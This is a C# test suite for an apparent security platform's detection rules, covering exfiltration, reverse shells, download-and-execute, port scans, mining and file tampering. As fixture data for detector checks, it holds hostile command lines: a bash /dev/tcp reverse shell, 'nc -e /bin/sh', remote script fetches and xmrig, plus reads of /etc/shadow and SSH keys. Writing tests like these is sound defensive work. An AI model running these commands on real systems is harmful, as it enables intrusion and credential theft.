using Platform.Contracts;
using Platform.Tests.Infrastructure;
using static Platform.Tests.Incidents.IncidentScenario;

namespace Platform.Tests.Incidents;

/// <summary>Each detection rule, with the case it must find and the look-alikes it must not (docs/detection.md).</summary>
public abstract class DetectionTests(PlatformApi api)
{
    [SkippableFact]
    public async Task A_sensitive_read_then_a_public_connection_by_the_same_lineage_is_one_exfiltration_with_its_chain()
    {
        var s = await StartAsync(api);
        var steps = s.Struts2Compromise(T0);
        // Across two batches: the read in one, the connection in the next.
        await s.PushAsync(steps[..3]);
        await s.PushAsync(steps[3..]);
        await s.PushAsync(s.Connect(T0.AddSeconds(2), 4232, "curl", "203.0.113.9", 80, Web)); // a second connection: the same finding

        var incident = Assert.Single(await s.IncidentsAsync(IncidentCategory.DataExfiltration));
        Assert.Equal((IncidentSeverity.Critical, IncidentStatus.Open, Web.Id, "struts2-web"), (incident.Severity, incident.Status, incident.Resource.ContainerId, incident.Resource.ContainerName));
        Assert.Contains("T1041", incident.Techniques);
        var finding = Assert.Single(await s.FindingsAsync(incident));
        Assert.Equal(DetectionRule.SensitiveReadThenEgress, finding.Rule);
        Assert.Equal(["java", "sh", "cp", "curl"], finding.Lineage.Select(p => p.Name));
        Assert.Equal([4101, 4230, 4231, 4232], finding.Lineage.Select(p => p.Pid));
        Assert.Equal(steps.Select(e => e.Id), finding.Events.Select(e => e.Id));
        Assert.Contains("/etc/passwd", finding.Summary);
        Assert.Contains("203.0.113.9:80", finding.Summary);
    }

    [SkippableFact]
    public async Task No_exfiltration_for_a_private_destination_an_unrelated_process_or_a_connection_past_the_window()
    {
        var s = await StartAsync(api);
        await s.PushAsync(s.Struts2Compromise(T0, destination: "10.0.3.20"));
        var other = await StartAsync(api);
        await other.PushAsync(other.Struts2Compromise(T0.AddMinutes(1), readPath: "/srv/app/readme.txt"));
        Assert.Empty(await other.IncidentsAsync(IncidentCategory.DataExfiltration));
        // cat from one ssh session, curl from another: no common ancestor but sshd.
        await s.PushAsync(
            s.Start(T0.AddMinutes(2), 500, 1, "sshd"),
            s.Start(T0.AddMinutes(2), 600, 500, "bash", "sshd"), s.Start(T0.AddMinutes(2), 601, 600, "cat", "bash"),
            s.File(T0.AddMinutes(2), 601, "cat", "/etc/shadow", FimOperation.Read),
            s.Start(T0.AddMinutes(2), 700, 500, "bash", "sshd"), s.Start(T0.AddMinutes(2), 701, 700, "curl", "bash"),
            s.Connect(T0.AddMinutes(2).AddSeconds(1), 701, "curl", "198.51.100.20", 443));
        // The same process, but eleven minutes later (the window is ten).
        await s.PushAsync(s.Start(T0.AddMinutes(20), 800, 1, "python3"), s.File(T0.AddMinutes(20), 800, "python3", "/root/.ssh/id_rsa", FimOperation.Read));
        await s.PushAsync(s.Connect(T0.AddMinutes(31), 800, "python3", "198.51.100.20", 443));

        Assert.Empty(await s.IncidentsAsync(IncidentCategory.DataExfiltration));

        // Within the window, the same process: found (the control for the cases above).
        var control = await StartAsync(api);
        await control.PushAsync(control.Start(T0, 800, 1, "python3"), control.File(T0, 800, "python3", "/root/.ssh/id_rsa", FimOperation.Read));
        await control.PushAsync(control.Connect(T0.AddMinutes(9), 800, "python3", "198.51.100.20", 443));
        Assert.Single(await control.IncidentsAsync(IncidentCategory.DataExfiltration));
    }

    [SkippableFact]
    public async Task A_server_spawning_a_shell_is_found_and_a_login_shell_is_not()
    {
        var s = await StartAsync(api);
        await s.PushAsync(s.Start(T0, 4230, 4101, "sh", "java", ["sh", "-c", "id"], Web, "/bin/sh"));
        await s.PushAsync(s.Start(T0, 900, 500, "bash", "sshd", ["-bash"], null, "/bin/bash"), s.Start(T0, 901, 1, "nginx", "systemd"));

        var incident = Assert.Single(await s.IncidentsAsync());
        Assert.Equal((IncidentCategory.ShellFromServer, IncidentSeverity.High), (incident.Category, incident.Severity));
        Assert.Contains("java (pid 4101) started a shell", incident.Summary);
    }

    [SkippableFact]
    public async Task A_downloaded_file_that_runs_is_found_and_a_file_that_was_not_downloaded_is_not()
    {
        var s = await StartAsync(api);
        await s.PushAsync(
            s.Start(T0, 300, 200, "curl", "bash", ["curl", "-s", "-o", "x.sh", "http://198.51.100.3/x.sh"], cwd: "/tmp"),
            s.Start(T0.AddSeconds(1), 301, 200, "wget", "bash", ["wget", "http://198.51.100.3/m"]),
            s.File(T0.AddSeconds(1.5), 301, "wget", "/var/tmp/m", FimOperation.Create));
        await s.PushAsync(s.Start(T0.AddSeconds(5), 302, 200, "ls", "bash", ["/usr/bin/ls"], executable: "/usr/bin/ls"));
        Assert.Empty(await s.IncidentsAsync(IncidentCategory.DownloadExecute));

        await s.PushAsync(s.Start(T0.AddSeconds(10), 303, 200, "sh", "bash", ["/tmp/x.sh"], executable: "/bin/sh", cwd: "/tmp"));
        await s.PushAsync(s.Start(T0.AddSeconds(11), 304, 200, "m", "bash", ["./m"], executable: "/var/tmp/m"));

        var incident = Assert.Single(await s.IncidentsAsync(IncidentCategory.DownloadExecute));
        Assert.Equal(2, incident.FindingCount);
        Assert.Contains("T1105", incident.Techniques);
    }

    [SkippableFact]
    public async Task Many_ports_in_a_minute_is_a_port_scan_and_a_few_or_a_slow_trickle_is_not()
    {
        var s = await StartAsync(api);
        await s.PushAsync(Enumerable.Range(0, 10).Select(i => (TelemetryEvent)s.Connect(T0.AddSeconds(i), 400, "nmap", "10.0.0.5", 20 + i)).ToArray());
        await s.PushAsync(Enumerable.Range(0, 25).Select(i => (TelemetryEvent)s.Connect(T0.AddMinutes(10 + 2 * i), 401, "probe", "10.0.0.6", 1000 + i)).ToArray());
        Assert.Empty(await s.IncidentsAsync(IncidentCategory.PortScan));

        await s.PushAsync(Enumerable.Range(0, 25).Select(i => (TelemetryEvent)s.Connect(T0.AddHours(2).AddSeconds(i), 402, "nmap", "10.0.0.7", 1 + i)).ToArray());
        var incident = Assert.Single(await s.IncidentsAsync(IncidentCategory.PortScan));
        Assert.Equal(IncidentSeverity.Medium, incident.Severity);
        Assert.Contains("20 ports of 10.0.0.7", incident.Summary);
    }

    [SkippableFact]
    public async Task A_busy_client_of_one_service_is_not_a_port_scan_and_its_later_scan_is_found_once()
    {
        var s = await StartAsync(api);
        // A thousand connections in a minute to one database: many connections, one host, one port.
        await s.PushAsync(Enumerable.Range(0, 1000).Select(i => (TelemetryEvent)s.Connect(T0.AddMilliseconds(50 * i), 410, "app", "10.0.0.8", 5432)).ToArray());
        Assert.Empty(await s.IncidentsAsync(IncidentCategory.PortScan));

        // The same process then walks the ports of another host, still within the minute of its database traffic.
        await s.PushAsync(Enumerable.Range(0, 30).Select(i => (TelemetryEvent)s.Connect(T0.AddSeconds(50).AddMilliseconds(10 * i), 410, "app", "10.0.0.9", 8000 + i)).ToArray());
        var incident = Assert.Single(await s.IncidentsAsync(IncidentCategory.PortScan));
        Assert.Contains("20 ports of 10.0.0.9", incident.Summary);
        var finding = Assert.Single(await s.FindingsAsync(incident));
        Assert.InRange(finding.Events.Count, 1, 20);
    }

    [SkippableFact]
    public async Task A_reverse_shell_is_found_by_its_command_or_its_connection_and_a_local_one_is_not()
    {
        var s = await StartAsync(api);
        await s.PushAsync(s.Start(T0, 500, 400, "bash", "cron", ["bash", "-c", "echo hi > /dev/null"]), s.Connect(T0, 500, "bash", "127.0.0.1", 8080));
        Assert.Empty(await s.IncidentsAsync(IncidentCategory.ReverseShell));

        await s.PushAsync(s.Start(T0.AddSeconds(1), 501, 400, "bash", "cron", ["bash", "-c", "bash -i >& /dev/tcp/198.51.100.9/4444 0>&1"]));
        await s.PushAsync(s.Start(T0.AddSeconds(2), 502, 400, "nc", "cron", ["nc", "198.51.100.9", "4444", "-e", "/bin/sh"]));
        await s.PushAsync(s.Start(T0.AddSeconds(3), 503, 400, "sh", "cron", ["sh"]), s.Connect(T0.AddSeconds(3), 503, "sh", "198.51.100.9", 4444));

        // Three processes whose only common ancestor is cron: three chains, three incidents (docs/detection.md).
        var incidents = await s.IncidentsAsync(IncidentCategory.ReverseShell);
        Assert.Equal(3, incidents.Count);
        Assert.All(incidents, i => Assert.Equal((IncidentSeverity.Critical, 1), (i.Severity, i.FindingCount)));
    }

    [SkippableFact]
    public async Task Mining_pools_are_found_by_port_name_or_miner_and_ordinary_traffic_is_not()
    {
        var s = await StartAsync(api);
        await s.PushAsync(s.Connect(T0, 600, "node", "198.51.100.40", 443), s.Dns(T0, 600, "node", "registry.npmjs.org"), s.Connect(T0, 600, "node", "127.0.0.1", 3333));
        Assert.Empty(await s.IncidentsAsync(IncidentCategory.CryptoMining));

        await s.PushAsync(s.Dns(T0.AddSeconds(1), 601, "kworker", "pool.supportxmr.com"));
        await s.PushAsync(s.Connect(T0.AddSeconds(2), 601, "kworker", "198.51.100.41", 3333));
        await s.PushAsync(s.Start(T0.AddSeconds(3), 602, 1, "xmrig", "systemd", ["xmrig", "-o", "stratum+tcp://pool:3333"]));

        // kworker's look-up and connection are one chain; xmrig (started by systemd) another.
        var incidents = await s.IncidentsAsync(IncidentCategory.CryptoMining);
        Assert.Equal([1, 2], incidents.Select(i => i.FindingCount).Order());
        Assert.All(incidents, i => Assert.Contains("T1496", i.Techniques));
    }

    [SkippableFact]
    public async Task A_write_to_a_protected_file_is_an_incident_a_read_is_not_and_a_prevented_one_is_less_severe()
    {
        var rule = await api.Admin().CreateFimRuleAsync(FimRules.AppConfig(FimRules.Unique("app-config")));
        var s = await StartAsync(api);
        FimAlertReport Report(string id, FimOperation action, FimAlertEffect effect, DateTimeOffset time) => new()
        {
            Id = id, Time = time, RuleId = rule.Id, RuleVersion = rule.Version, Path = "/srv/app/application.cfg", Action = action, Effect = effect,
            Attribution = FimAttribution.Available, Process = new FimProcess { Pid = 5121, Name = "vi", Executable = "/usr/bin/vi", User = "deploy", Uid = 1001 },
        };

        await s.Agent.PushFimAlertsAsync(new FimAlertBatch { Alerts = [Report("r", FimOperation.Read, FimAlertEffect.Alerted, T0)] }, s.AgentId);
        Assert.Empty(await s.IncidentsAsync());

        var batch = new FimAlertBatch { Alerts = [Report("w", FimOperation.Write, FimAlertEffect.Alerted, T0.AddSeconds(5))] };
        await s.Agent.PushFimAlertsAsync(batch, s.AgentId);
        await s.Agent.PushFimAlertsAsync(batch, s.AgentId); // a retry: nothing more
        var incident = Assert.Single(await s.IncidentsAsync());
        Assert.Equal((IncidentCategory.FimTamper, IncidentSeverity.High, 1, (string?)null), (incident.Category, incident.Severity, incident.FindingCount, incident.Resource.ContainerId));
        var finding = Assert.Single(await s.FindingsAsync(incident));
        var alert = Assert.Single((await api.Admin().ListFimAlertsAsync(limit: 10, agentId: s.AgentId, action: FimOperation.Write)).Items);
        Assert.Equal([alert.Id], finding.FimAlertIds);
        Assert.Equal("vi", Assert.Single(finding.Lineage).Name);

        var other = await StartAsync(api);
        await other.Agent.PushFimAlertsAsync(new FimAlertBatch { Alerts = [Report("p", FimOperation.Write, FimAlertEffect.Prevented, T0)] }, other.AgentId);
        var prevented = Assert.Single(await other.IncidentsAsync());
        Assert.Equal(IncidentSeverity.Medium, prevented.Severity);
        Assert.EndsWith("(prevented)", prevented.Summary);
    }

    [SkippableFact]
    public async Task Findings_group_per_resource_and_category_within_the_window_and_the_same_events_count_once()
    {
        var s = await StartAsync(api);
        var other = new ContainerRef { Id = "0a1b2c3d4e5f", Name = "api", Image = "node:20" };
        var first = s.Start(T0, 4230, 4101, "sh", "java", ["sh"], Web, "/bin/sh");
        await s.PushAsync(first);
        await s.PushAsync(s.Start(T0.AddMinutes(30), 4240, 4101, "bash", "java", ["bash"], Web, "/bin/bash"));
        await s.PushAsync(s.Start(T0.AddMinutes(31), 5230, 5101, "sh", "node", ["sh"], other, "/bin/sh"));
        // The same event again in a later batch (an agent that re-sent it): the same finding, not a new one.
        await s.PushAsync(first);

        var incidents = await s.IncidentsAsync(IncidentCategory.ShellFromServer);
        Assert.Equal(2, incidents.Count);
        var web = Assert.Single(incidents, i => i.Resource.ContainerId == Web.Id);
        Assert.Equal((2, T0, T0.AddMinutes(30)), (web.FindingCount, web.FirstSeen, web.LastSeen));

        // Past the window: a new incident. Resolved: a new incident too.
        await s.PushAsync(s.Start(T0.AddMinutes(100), 4250, 4101, "sh", "java", ["sh"], Web, "/bin/sh"));
        Assert.Equal(2, (await s.IncidentsAsync(IncidentCategory.ShellFromServer)).Count(i => i.Resource.ContainerId == Web.Id));
        var latest = (await s.IncidentsAsync(IncidentCategory.ShellFromServer)).Where(i => i.Resource.ContainerId == Web.Id).MaxBy(i => i.LastSeen)!;
        await api.Admin().ChangeIncidentStatusAsync(new IncidentStatusChange { Status = IncidentStatus.Resolved, Resolution = IncidentResolution.TruePositive, Reason = "rebuilt" }, latest.Id);
        await s.PushAsync(s.Start(T0.AddMinutes(101), 4251, 4101, "sh", "java", ["sh"], Web, "/bin/sh"));
        Assert.Equal(3, (await s.IncidentsAsync(IncidentCategory.ShellFromServer)).Count(i => i.Resource.ContainerId == Web.Id));
    }
}

public sealed class DetectionTestsOnSqlite(SqliteApi api) : DetectionTests(api), IClassFixture<SqliteApi>;

/// <summary>Every rule again with batches read back from storage (as for another instance's batches), not handed over in memory.</summary>
public sealed class DetectionTestsFromStorage(DetectionTestsFromStorage.Api api) : DetectionTests(api), IClassFixture<DetectionTestsFromStorage.Api>
{
    public sealed class Api : SqliteApi
    {
        protected override IDictionary<string, string?> Settings => new Dictionary<string, string?> { ["Platform:Detection:HandoffMegabytes"] = "0" };
    }
}

public sealed class DetectionTestsOnPostgres(PostgresApi api) : DetectionTests(api), IClassFixture<PostgresApi>;
